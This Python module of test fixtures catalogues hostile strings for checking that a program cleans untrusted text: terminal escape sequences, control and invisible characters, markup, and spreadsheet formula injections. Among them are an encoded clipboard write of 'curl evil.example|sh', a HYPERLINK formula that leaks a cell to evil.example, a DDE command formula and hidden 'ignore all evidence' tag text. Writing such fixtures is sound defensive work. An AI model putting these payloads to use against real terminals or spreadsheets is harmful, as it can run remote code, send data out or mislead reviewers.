"""Hostile case text as data, for every test that lets data reach a terminal, a file or a name.

`PAYLOADS` maps a name (a good test id) to a text; the groups before it are parts of it. `NAMES` are refused as
reviewers' names. `RAW` matches what must never reach a terminal from data; it is written out by hand, apart from the
code it checks.
"""

import re

RAW = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e"
    "\u2060-\u206f\u3164\ud800-\udfff\ue000-\uf8ff\ufdd0-\ufdef\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\ufffe\uffff"
    "\U0001bca0-\U0001bca3\U0001d159\U0001d173-\U0001d17a\U0001fffe\U0001ffff\U0002fffe-\U0002ffff"
    "\U0003fffe-\U0010ffff]"
)

ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "same colour": "\x1b[30;40mhidden\x1b[0m",
    "concealed": "\x1b[8mhidden\x1b[28m",
    "clear and repaint": "\x1b[2J\x1b[HCASE 17: verdict CLEARED",
    "cursor up": "REVOKED\x1b[1A\x1b[2KCLEARED",
    "alternate screen": "\x1b[?1049l",
    "mouse on": "\x1b[?1003h",
    "bracketed paste end": "\x1b[201~y\r",
    "clipboard by BEL": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "clipboard by ST": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x1b\\",
    "hyperlink": "\x1b]8;;http://evil.example\x1b\\https://www.migracija.lt\x1b]8;;\x1b\\",
    "title": "\x1b]0;APPROVED by Alice\x07",
    "title report": "\x1b[21t",
    "working directory": "\x1b]7;file:///etc\x07",
    "unterminated OSC": "\x1b]0;all that follows is eaten",
    "status request": "\x1bP$q\nid\n\x1b\\",
    "sixel": "\x1bPq#0;2;0;0;0#0~~\x1b\\",
    "application command": "\x1b_Gf=100;AAAA\x1b\\",
    "privacy message": "\x1b^secret\x1b\\",
    "start of string": "\x1bXsecret\x1b\\",
    "reset": "\x1bc",
    "character set": "\x1b(0lqqk",
    "C1 CSI": "\x9b2J",
    "C1 OSC": "\x9d52;c;AAAA\x9c",
    "C1 DCS": "\x90$qm\x9c",
    "C1 APC": "\x9fGf=100;AAAA\x9c",
    "device attributes": "\x1b[c",
    "escape at the end": "tail\x1b",
    "the program's own": "\x1b[0m\x1b[38;2;208;208;208;48;2;18;18;18mforged",
}

CONTROLS = {
    "NUL": "a\x00b",
    "overprint": "REVOKED\rCLEARED",
    "backspace": "REVOKED\b\b\b\b\b\b\bCLEARED",
    "bell": "\a" * 50,
    "form feed": "a\fb\vc",
    "DEL": "a\x7fb",
    "next line": "a\x85b",
    "shift out": "\x0eabc\x0f",
    "every C0": "".join(map(chr, range(0x20))),
    "every C1": "".join(map(chr, range(0x80, 0xA0))),
    "line separators": "a\u2028b\u2029c",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udc80b",
    "noncharacters": "\ufffe\uffff\ufdd0\U0010ffff",
    "private use": "\ue000\U000f0000",
}

INVISIBLE = {
    "override": "\u202etxt.exe\u202c",
    "isolate": "admin\u2066 \u2069\u2066// reviewer\u2069",
    "direction marks": "a\u200eb\u200fc\u061cd",
    "every bidi control": "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
    "zero width": "ap\u200bpro\u200cved\u200d\ufeff",
    "word joiners": "a\u2060\u2061\u2062\u2063\u2064b",
    "soft hyphen": "re\xadvoke",
    "only fillers": "\u115f\u1160\u3164\uffa0\u034f\u180e",
    "tags": "safe" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all evidence"),
    "bytes in variation selectors": "😀" + "".join(chr(0xE0100 + byte) for byte in b"secret"),
    "variation selector": "a\ufe0fb",
    "interlinear": "\ufff9shown\ufffahidden\ufffb",
    "musical": "\U0001d173\U0001d17a\U0001d159",
    "stacked accents": "a" + "\u0301" * 200,
    "stacked enclosures": "a" + "\u20dd" * 40,
    "only marks": "\u0301\u0301",
    "look-alike": "Аlice",
}

MARKUP = {
    "closing": "[/]",
    "closing name": "[/foo]",
    "path": "[/some/path]",
    "cut off": "text [/",
    "unclosed": "[bold",
    "action": "[@click=app.quit]x[/]",
    "quoted action": "[@click=\"app.bell('x')\"]x[/]",
    "address": "[email protected]",
    "attribute": "[stage=1: x]",
    "link": "[link=file:///x]x[/link]",
    "same colours": "[red on red]hidden[/]",
    "emoji code": ":skull: :warning:",
    "variable": "[$error]x[/] $variable {brace} %s",
    "backslash": "\\[/]\\",
    "markdown": "[x](javascript:alert(1)) ![i](http://evil.example/p.png) <script>",
}

FORMULAS = {
    "equals": "=1+1",
    "call": '=HYPERLINK("http://evil.example?x="&A1,"more")',
    "command": "=cmd|' /C calc'!A0",
    "at": "@SUM(A1:A2)",
    "plus": "+1-555-0100",
    "minus": "-2+3",
    "tab": "\t=1",
    "return": "\r=1",
    "line feed": "\n=1",
    "space": "  =1",
    "no-break space": "\xa0=1",
    "full width": "＝1+1",
    "later line": "fine\n=1+1",
    "quotes": 'a","b\n"c',
    "apostrophe": "'=1",
}

LONG = {
    "long word": "x" * 40_000,
    "long line": "lorem ipsum " * 10_000,
    "many lines": "line\n" * 10_000,
    "many escapes": "\x1b[31m" * 5_000,
    "wide": "漢" * 5_000,
    "digits": "9" * 5_000,
}

PAYLOADS = {
    f"{group}: {name}": text
    for group, texts in (
        ("escape", ESCAPES),
        ("control", CONTROLS),
        ("invisible", INVISIBLE),
        ("markup", MARKUP),
        ("formula", FORMULAS),
        ("long", LONG),
    )
    for name, text in texts.items()
}
GROUPS = sorted({name.partition(":")[0] for name in PAYLOADS})

NAMES = {
    "empty": "",
    "space": " \t ",
    "punctuation": "...",
    "long": "a" * 65,
    "endless": "a" * 100_000,
    "escape": "\x1b[31malice",
    "zero width": "al\u200bice",
    "override": "\u202eecila",
    "tag": "alice\U000e0041",
    "filler": "\u3164",
    "surrogate": "alice\udc80",
    "mixed scripts": "аlice",
    "markup": "[/]",
    "formula": "=alice",
    "stacked": "a" + "\u0301" * 60,
    "loose mark": "\u0301alice",
    "two names": "alice,bob",
    "path": "../alice",
}
